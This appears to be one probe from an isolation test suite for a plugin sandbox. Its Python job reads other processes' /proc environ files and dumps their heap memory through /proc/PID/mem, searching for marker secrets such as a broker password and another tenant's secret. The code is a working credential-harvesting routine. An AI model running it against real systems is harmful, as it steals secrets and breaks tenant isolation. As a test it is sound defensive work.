# family: processes
# kind: value
# tries: /proc/PID/mem and environ of the zygote, the node, and whoever started it
# success looks like: the broker's password, the node's environment
def job(plugin):
  @LIBC@
  wanted = [b'BROKER-' + b'PASSWORD', b'ENVIRONMENT-' + b'SECRET', b'TENANT-B-' + b'SECRET']
  found = []
  for pid in [os.getppid()] + list(range(1, max(os.getpid(), 500))):
    try:
      found.append(open_bytes(os, '/proc/%d/environ' % pid, 0, 20000))
      for line in open_bytes(os, '/proc/%d/maps' % pid, 0, 400000).split(b'\n'):
        if b'[heap]' in line:
          low, high = [int(x, 16) for x in line.split()[0].split(b'-')]
          memory = open_bytes(os, '/proc/%d/mem' % pid, low, min(high - low, 67108864))
          for word in wanted:
            at = memory.find(word)
            if at >= 0:
              found.append(memory[at:at + 40])
    except OSError as error:
      found.append(error.errno)
  return found

def open_bytes(os, path, offset, size):
  fd = os.open(path, 0)
  data = b''
  while len(data) < size:
    more = os.pread(fd, min(size - len(data), 1048576), offset + len(data))
    if not more:
      break
    data = data + more
  os.close(fd)
  return data
